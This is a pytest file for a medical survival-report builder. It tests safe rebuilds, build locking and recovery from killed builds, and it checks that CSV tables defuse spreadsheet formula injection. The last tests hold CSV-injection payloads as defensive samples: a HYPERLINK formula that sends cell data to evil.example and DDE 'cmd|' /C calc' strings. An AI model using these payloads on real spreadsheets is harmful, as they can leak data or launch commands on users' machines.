"""Safe writes of a report build: a user's files in the report folder survive a rebuild (or
the build is refused, listing them), one build per folder (the loser names the holder's pid),
and a build killed at any moment leaves a readable report at the target path, with every
leftover of the killed build removed by the next one. And text is text in tables/*.csv: no
cell a spreadsheet would execute.
"""

from __future__ import annotations

import importlib
import os
import random
import shutil
import signal
import subprocess
import sys
import time
import warnings
from pathlib import Path

import pandas as pd
import pytest

from metsurv.errors import CohortError

B = importlib.import_module("metsurv.report.build")
R = importlib.import_module("metsurv.report.replace")
T = importlib.import_module("metsurv.report.tables")
DATA = Path(__file__).resolve().parents[1] / "data"


@pytest.fixture(scope="module")
def tiny_study(tmp_path_factory, make_study_module) -> Path:
    """The smallest study the report tests build (one factor, SVG only): ~2 s a build."""
    write_cohort, write_config = make_study_module
    root = tmp_path_factory.mktemp("tiny")
    write_cohort(root / "data", n=120, seed=11)
    return write_config(root, data={"source": "data/patients.csv"}, formats=["svg"],
                        factors=["complete_resection"], table1={"by": "complete_resection"},
                        cox={"covariates": ["complete_resection"]}, landmark_times=[12],
                        benchmark=None)


@pytest.fixture(scope="module")
def make_study_module():
    from tests.report.conftest import write_cohort, write_config

    return write_cohort, write_config


@pytest.fixture(scope="module")
def template(tiny_study: Path, tmp_path_factory) -> Path:
    """One real build of the tiny study, copied by the fast builds of the kill test."""
    return B.build(tiny_study, out=tmp_path_factory.mktemp("template") / "report")


def _complete(report: Path) -> bool:
    """A readable report: index.html whole and a metsurv provenance.json."""
    try:
        page = (report / "index.html").read_text(encoding="utf-8")
    except OSError:
        return False
    return page.rstrip().endswith("</html>") and R.is_report(report)


def _beside(target: Path) -> list[str]:
    """What builds left beside the target: hidden folders and the lock file."""
    return sorted(p.name for p in target.parent.iterdir() if p.name.startswith(f".{target.name}."))


def _quiet_build(cfg: Path, target: Path) -> list[str]:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        B.build(cfg, out=target)
    return [str(w.message) for w in caught if "restored" in str(w.message)
            or "removed" in str(w.message)]


# ---------------------------------------------------------------------------------------
# a user's files in the report folder


def test_user_files_in_the_report_folder_survive_a_rebuild(tiny_study: Path, template: Path,
                                                           tmp_path):
    target = tmp_path / "report"
    shutil.copytree(template, target)
    (target / "notes.txt").write_text("my notes")
    (target / "drafts").mkdir()
    (target / "drafts" / "letter.md").write_text("draft")
    (target / "tables" / "my_extra.csv").write_text("a,b\n1,2\n")
    (target / "figures" / "old_output.svg").write_text("<svg/>")
    prov = (target / "provenance.json").read_text()
    # a figure the previous build wrote that this one does not: metsurv's, so it goes
    (target / "provenance.json").write_text(prov.replace(
        '"outputs_sha256": {', '"outputs_sha256": {\n    "figures/old_output.svg": "x",'))
    for swap in ("exchange", "renames"):
        os.environ["METSURV_SWAP"] = swap
        try:
            B.build(tiny_study, out=target)
        finally:
            del os.environ["METSURV_SWAP"]
        assert (target / "notes.txt").read_text() == "my notes"
        assert (target / "drafts" / "letter.md").read_text() == "draft"
        assert (target / "tables" / "my_extra.csv").read_text() == "a,b\n1,2\n"
        assert not (target / "figures" / "old_output.svg").exists()
        assert _complete(target)
        assert _beside(target) == []


def test_rebuild_that_would_overwrite_a_user_file_is_refused_with_the_list(
        tiny_study: Path, template: Path, tmp_path):
    target = tmp_path / "report"
    shutil.copytree(template, target)
    mine = target / "tables" / "table1.csv"
    prov = (target / "provenance.json").read_text()
    (target / "provenance.json").write_text(prov.replace('"tables/table1.csv"', '"tables/x"'))
    mine.write_text("my own table 1")  # a file of the same name that metsurv did not write
    before = sorted(p.relative_to(target).as_posix() for p in target.rglob("*"))
    with pytest.raises(CohortError, match=r"would overwrite 1 file\(s\) that metsurv did not "
                                          r"write: tables/table1.csv; move or rename them"):
        B.build(tiny_study, out=target)
    assert mine.read_text() == "my own table 1"
    assert sorted(p.relative_to(target).as_posix() for p in target.rglob("*")) == before
    assert _beside(target) == []


# ---------------------------------------------------------------------------------------
# two builds, one folder


def test_second_build_to_a_locked_folder_names_the_holder_and_changes_nothing(
        tiny_study: Path, template: Path, tmp_path):
    target = tmp_path / "report"
    shutil.copytree(template, target)
    with R.BuildLock(target.resolve()):
        done = subprocess.run([sys.executable, "-m", "metsurv.cli", "report", str(tiny_study),
                               "--out", str(target)], capture_output=True, text=True,
                              timeout=120)
        assert done.returncode == 2, done.stderr
        assert (f"another metsurv report build (pid {os.getpid()}) is writing this folder now; "
                f"nothing was changed") in done.stderr
        assert done.stderr.count("\n") == 1
    assert _beside(target) == []  # the holder removes its lock file


def test_lock_file_of_a_killed_build_is_not_stale(tiny_study: Path, template: Path, tmp_path):
    """A killed build leaves .report.lock with its pid, but no OS lock: the next build runs."""
    target = tmp_path / "report"
    shutil.copytree(template, target)
    (tmp_path / ".report.lock").write_text("999999999\n")
    B.build(tiny_study, out=target)
    assert _complete(target) and _beside(target) == []


# ---------------------------------------------------------------------------------------
# leftovers of killed builds


def test_previous_report_set_aside_by_a_killed_build_is_restored(tiny_study: Path,
                                                                 template: Path, tmp_path):
    target = tmp_path / "report"
    shutil.copytree(template, tmp_path / ".report.old-abcd1234")   # killed between renames
    (tmp_path / ".report.old-abcd1234" / "notes.txt").write_text("mine")
    shutil.copytree(template, tmp_path / ".report.building-x1y2z3w4")
    (tmp_path / ".report.building-x1y2z3w4" / "index.html").write_text("<html><body>half")
    (tmp_path / ".report.building-x1y2z3w4" / "provenance.json").unlink()  # written last
    (tmp_path / ".report.old-copy").mkdir()          # a user's folder: not one of ours
    said = _quiet_build(tiny_study, target)
    assert _complete(target) and (target / "notes.txt").read_text() == "mine"
    assert _beside(target) == [".report.old-copy"]
    assert any("restored the report from .report.old-abcd1234" in s for s in said)
    assert any("removed 1 unfinished build folder(s) (.report.building-x1y2z3w4)" in s
               for s in said)


# ---------------------------------------------------------------------------------------
# the kill test


def _fast_build_into(template: Path):
    """A stand-in for ``_build_into`` that copies a real build's files (the kill test is
    about the output step; the real build is killed by the SIGKILL runs below)."""
    def build_into(cfg, outdir: Path) -> None:
        files = sorted(p for p in template.rglob("*") if p.is_file())
        for i, src in enumerate(files):
            dest = outdir / src.relative_to(template)
            dest.parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(src, dest)
            if i == len(files) // 2:
                R.kill_point("writing")
    return build_into


def _in_child(fn, env: dict[str, str]) -> int:
    """Run ``fn`` in a forked child with ``env``; return the signal that ended it (0: none)."""
    pid = os.fork()
    if pid == 0:  # the child never returns into pytest
        code = 0
        try:
            os.environ.update(env)
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                fn()
        except BaseException:
            code = 3
        os._exit(code)
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        return os.WTERMSIG(status)
    assert os.WEXITSTATUS(status) == 0, "the child build failed"
    return 0


_POINTS = ["locked", "writing", "built", "old_aside", "swapped", "user_files_moved",
           "old_half_removed"]


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
def test_kill_at_every_named_point_leaves_a_readable_report(tiny_study: Path, template: Path,
                                                            tmp_path, monkeypatch):
    """28 kills (SIGKILL, no clean-up) at every named point of the output step, with the
    one-step exchange and with the two-rename fallback; after each a readable report is at
    the target path, except between the two renames, where the next build restores it.
    Then the next build leaves no stale folder and the user's notes.txt."""
    monkeypatch.setattr(B, "_build_into", _fast_build_into(template))
    target = tmp_path / "report"
    shutil.copytree(template, target)
    (target / "notes.txt").write_text("mine")
    kills = 0
    for swap in ("exchange", "renames"):
        for point in _POINTS:
            for repeat in range(2):  # twice in a row: leftovers of two killed builds
                sig = _in_child(lambda: B.build(tiny_study, out=target),
                                {"METSURV_TEST_KILL_AT": point, "METSURV_SWAP": swap})
                if point == "old_aside" and swap == "exchange":
                    assert sig == 0  # no such instant with the exchange
                    continue
                assert sig == signal.SIGKILL, (swap, point)
                kills += 1
                if (swap, point) == ("renames", "old_aside"):
                    # the second build restores the first one's set-aside report, then is
                    # killed at the same instant again: one set-aside report, never two
                    assert not target.exists()
                    assert len([n for n in _beside(target) if ".old-" in n]) == 1
                else:
                    assert _complete(target), (swap, point, repeat)
            assert _in_child(lambda: B.build(tiny_study, out=target),
                             {"METSURV_SWAP": swap}) == 0
            assert _complete(target), (swap, point)
            assert _beside(target) == [], (swap, point)
            assert (target / "notes.txt").read_text() == "mine", (swap, point)
    assert kills >= 20


def _builders_of(target: Path) -> list[int]:
    """Processes whose command line builds into ``target`` (read from /proc)."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                cmd = (entry / "cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            if str(target).encode() in cmd and b"report" in cmd:
                found.append(int(entry.name))
    return found


def test_real_sigkill_of_the_cli_at_random_moments(tiny_study: Path, template: Path,
                                                   tmp_path):
    """`metsurv report` killed by a real SIGKILL at random moments (start-up, reading,
    figures, writing, swap), and once exactly between the two renames."""
    target = tmp_path / "report"
    shutil.copytree(template, target)
    (target / "notes.txt").write_text("mine")
    command = [sys.executable, "-m", "metsurv.cli", "report", str(tiny_study), "--out",
               str(target)]
    rng = random.Random(10)
    for delay in [rng.uniform(2.0, 5.0) for _ in range(3)]:
        proc = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(delay)
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=60)
        assert _complete(target), delay
        # no figure-saving worker outlives its builder (it would hold the lock and write)
        deadline = time.time() + 5
        while _builders_of(target) and time.time() < deadline:
            time.sleep(0.1)
        assert _builders_of(target) == [], delay
    env = {**os.environ, "METSURV_TEST_KILL_AT": "old_aside", "METSURV_SWAP": "renames"}
    done = subprocess.run(command, env=env, capture_output=True, timeout=120)
    assert done.returncode == -signal.SIGKILL
    assert not target.exists()
    said = _quiet_build(tiny_study, target)
    assert any("restored the report" in s for s in said)
    assert _complete(target) and _beside(target) == []
    assert (target / "notes.txt").read_text() == "mine"


# ---------------------------------------------------------------------------------------
# text is text in CSV


_EXECUTABLE = ("=", "+", "-", "@", "\t", "\r")


def test_formula_injection_in_column_names_is_neutralised_in_every_csv(tmp_path):
    """The handed xss_columns.csv: formulas as column names reach tables/findings.csv."""
    shutil.copy(DATA / "xss_columns.csv", tmp_path / "xss.csv")
    shutil.copy(DATA / "xss_mapping.yaml", tmp_path / "xss.yaml")
    cfg = {"title": "=HYPERLINK(\"http://evil.example\")",
           "data": {"source": str(tmp_path / "xss.csv"), "mapping": str(tmp_path / "xss.yaml")},
           "factors": ["complete_resection"], "formats": ["svg"], "benchmark": None,
           "cox": {"covariates": ["complete_resection"]}, "landmark_times": [12]}
    out = B.build(cfg, out=tmp_path / "report")
    seen = set()
    for path in sorted((out / "tables").glob("*.csv")):
        if not path.read_text().strip():  # a table without columns (none of our business)
            continue
        frame = pd.read_csv(path, dtype=str, keep_default_na=False, header=None)
        for cell in frame.to_numpy().ravel():
            if cell.startswith(_EXECUTABLE):
                assert T._PLAIN_NUMBER.fullmatch(cell), (path.name, cell)
            seen.add(cell)
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in seen
    assert "'+cmd|' /C calc'!A0" in seen
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in seen


def test_negative_numbers_stay_numbers_and_only_text_is_neutralised():
    frame = pd.DataFrame({"-x": ["=1+1", "-0.52", "-", "+cmd", "\tx", "R0", None],
                          "coef": [-0.52, 1.0, -3e-05, 0.0, 2.0, -1.0, float("nan")],
                          "n": [-1, 2, 3, 4, 5, 6, 7]})
    text = T.to_csv_bytes(frame).decode()
    back = pd.read_csv(pd.io.common.StringIO(text), dtype=str, keep_default_na=False)
    assert list(back.columns) == ["'-x", "coef", "n"]
    assert back["-x" if "-x" in back else "'-x"].tolist() == [
        "'=1+1", "-0.52", "'-", "'+cmd", "'\tx", "R0", ""]
    assert back["coef"].tolist()[:3] == ["-0.52", "1", "-3e-05"]
    assert back["n"].tolist()[0] == "-1"


def test_a_failed_build_leaves_nothing_new_on_disk(tmp_path, capsys):
    """metsurv report into a folder that does not exist yet, on data of which no patient can
    be analysed: exit 2 naming why, and neither the folder nor its parents are left."""
    from metsurv.cli import main

    data = tmp_path / "export.csv"
    data.write_text("patient_id,metastasectomy_date,last_followup_date,vital_status\n"
                    "A,2010-01-05,2009-03-01,dead\nB,2011-02-01,2010-06-01,alive\n")
    out = tmp_path / "new" / "deeper" / "report"
    assert main(["report", str(data), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "0 of 2" in err or "no patient" in err, err
    assert not (tmp_path / "new").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv"]


def test_any_number_of_workers_gives_byte_identical_reports(small_study, tmp_path, monkeypatch):
    """Figures saved by 1 or 3 worker processes: every file the same, byte for byte."""
    import importlib

    B = importlib.import_module("metsurv.report.build")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    files = {}
    for workers in ("1", "3"):
        monkeypatch.setenv("METSURV_WORKERS", workers)
        out = B.build(small_study, out=tmp_path / f"w{workers}")
        files[workers] = {p.relative_to(out).as_posix(): p.read_bytes()
                          for p in sorted(out.rglob("*")) if p.is_file()}
    assert files["1"].keys() == files["3"].keys() and len(files["1"]) > 20
    assert [k for k in files["1"] if files["1"][k] != files["3"][k]] == []


@pytest.mark.parametrize("value", ["0", "two", "-1"])
def test_a_bad_number_of_workers_is_a_user_mistake(small_study, tmp_path, monkeypatch, value):
    import importlib

    from metsurv.errors import CohortError

    B = importlib.import_module("metsurv.report.build")
    monkeypatch.setenv("METSURV_WORKERS", value)
    with pytest.raises(CohortError, match="METSURV_WORKERS"):
        B.build(small_study, out=tmp_path / "r")
